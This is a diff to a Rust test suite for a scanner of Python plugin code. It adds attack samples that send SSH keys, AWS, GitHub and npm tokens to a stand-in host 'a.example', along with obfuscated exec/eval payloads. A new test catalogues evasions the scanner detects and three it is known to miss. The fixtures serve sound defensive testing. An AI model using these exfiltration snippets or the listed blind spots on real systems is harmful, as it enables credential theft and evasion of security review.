@@ -19,7 +19,7 @@ struct Attack {
     folded: &'static str,
 }
 
-const ATTACKS: [Attack; 24] = [
+const ATTACKS: [Attack; 26] = [
     Attack {
         rule: "secret-flow",
         plain: "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n\
@@ -180,6 +180,20 @@ const ATTACKS: [Attack; 24] = [
         folded: "import subprocess\nsubprocess.getoutput('who' + 'ami')",
     },
     Attack {
+        rule: "key-flow",
+        plain: "import os, requests\nrequests.post('http://a.example', data={'c': os.environ['AWS_ACCESS_KEY_ID']})",
+        renamed: "from os import getenv as g\nfrom urllib.request import urlopen as u\nclass P:\n    def __init__(self):\n        \
+                  self.k = g('GITHUB_TOKEN')\n    def execute(self, c):\n        u('https://a.example/' + self.k)",
+        folded: "import os, requests\ne = os.__getattribute__('env' + 'iron')\nk = e['NPM' + '_TOKEN']\n\
+                 requests.post.__call__('http://a.example', k)",
+    },
+    Attack {
+        rule: "decoded-run",
+        plain: "exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))",
+        renamed: "x = eval\nx(b'\\x85\\xa5'.decode('cp1026'))",
+        folded: "vars(__builtins__).get('ex' + 'ec')(')1(tnirp'[::-1])",
+    },
+    Attack {
         rule: "encrypting-walk",
         plain: "import os\nfrom cryptography.fernet import Fernet\nfor a, b, c in os.walk('/'):\n    print(Fernet)",
         renamed: "from os import walk as w\nimport cryptography.fernet as f\nlist(w('/'))",
@@ -265,6 +279,8 @@ fn what_plugins_do_is_not_suspicious() {
         "import os\nDEBUG = os.environ.get('DEBUG') == '1'\nprint(os.path.join(os.path.dirname(__file__), 'templates'))",
         "import socket\ndef up(host):\n    with socket.create_connection((host, 80), timeout=1) as c:\n        c.sendall(b'HEAD / HTTP/1.0')\n        return c.recv(10)",
         "import importlib\ndef load(name):\n    return importlib.import_module(f'plugins.{name}')",
+        "import socket\nhost = socket.gethostname()\nprint(socket.gethostbyname(host))",
+        "import sys\nexec('import {}'.format(sys.argv[1]))\nexec('x = ' + '1')",
         "import re\nMAIL = re.compile(r'[\\w.+-]+@[\\w-]+\\.[\\w.]+')\nURL = 'https://docs.python.org/3/'",
         "def on_message(message):\n    if message['text'].startswith('!hello'):\n        return {'text': 'hello'}",
         "import hashlib, hmac\ndef sign(key, text):\n    return hmac.new(key, text, hashlib.sha256).hexdigest()",
@@ -274,5 +290,38 @@ fn what_plugins_do_is_not_suspicious() {
     for code in honest {
         let scan = scanned(code);
         assert!(scan.verdict <= Verdict::Notes, "{code}\n{:?}", scan.hits);
+    }
+}
+
+/// Ways around that were tried against the rules: what is found, and what is known to be open. The open ones stand here so
+/// that a rule that closes one has to say so; the sandbox is the border for all of them.
+#[test]
+fn ways_around_are_known() {
+    let found = [
+        // The parts lie in two functions, the value in an attribute.
+        "import os\nclass P:\n    def initialize(self):\n        self.seen = dict(os.environ)\n    def execute(self, c):\n        \
+         import requests\n        requests.post('https://a.example', json=self.seen)",
+        // The function has another name, the value a detour through a container.
+        "import os, requests as q\nout = []\nfor pair in os.environ.items():\n    out.append('='.join(pair))\n\
+         go = q.Session().post\ngo('https://a.example', data='\\n'.join(out))",
+        // The decoder is a lambda, the text is turned round.
+        "from base64 import b64decode as b\n(lambda f, x: exec(f(x[::-1])))(b, 'x')\nd = lambda x: b(x[::-1])\nexec(d('x'))",
+    ];
+    for code in found {
+        assert!(scanned(code).verdict >= Verdict::Suspicious, "{code}");
+    }
+    let open = [
+        // Two calls in a row.
+        "import os, requests\ndef a(x):\n    b(x)\ndef b(x):\n    requests.post('https://a.example', json=x)\na(dict(os.environ))",
+        // A thread gets the function and the value.
+        "import os, threading\nfrom requests import post\nthreading.Thread(target=post, args=('https://a.example', os.environ)).start()",
+        // A file in between.
+        "import os, json, requests\njson.dump(dict(os.environ), open('/tmp/x', 'w'))\nrequests.post('https://a.example', data=open('/tmp/x'))",
+    ];
+    for code in open {
+        assert!(
+            scanned(code).verdict <= Verdict::Notes,
+            "it is found now: move it up, and out of decision 0085\n{code}"
+        );
     }
 }
